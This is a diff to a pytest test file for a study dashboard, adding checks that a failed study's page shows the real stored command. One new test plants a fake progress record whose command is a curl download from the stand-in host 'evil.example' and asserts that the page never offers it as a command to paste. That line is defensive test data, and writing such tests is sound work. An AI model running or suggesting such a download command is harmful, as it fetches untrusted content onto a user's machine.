@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from core.job_commands import Analyze
 from core.store import open_study
 from tests.dashboard.conftest import MAIN, all_text, forget, tiles, unescaped, write_progress
 from tests.manifests import edited_manifest
@@ -105,11 +106,20 @@ def test_half_finished_study__views_show_what_is_there(studies, open_page):
 
 
 def test_stopped_study__names_reason_and_command(studies, open_page):
+    command = Analyze(studies / "mine", images="glyphworld", encoder="asset:simclr_glyphworld")
+    remember(studies / "mine", command)
     write_progress(studies / "mine", state="failed", error="EncoderError: NaN in cat/1.png")
     said = all_text(open_page(study="mine"))
     assert "stopped with an error" in said
     assert "NaN in cat" in said
-    assert "python -m core analyze studies/new" in said
+    assert command.shell in said and "studies/new" not in said
+
+
+def test_stopped_study__of_a_stranger_shows_no_command_to_paste(studies, open_page):
+    write_progress(studies / "mine", state="failed", error="x", command=["curl", "evil.example", "-o", "y"])
+    app = open_page(study="mine")
+    assert "Run the command that began it once more" in all_text(app)
+    assert not any("evil.example" in code.value for code in app.code)
 
 
 @pytest.mark.parametrize(
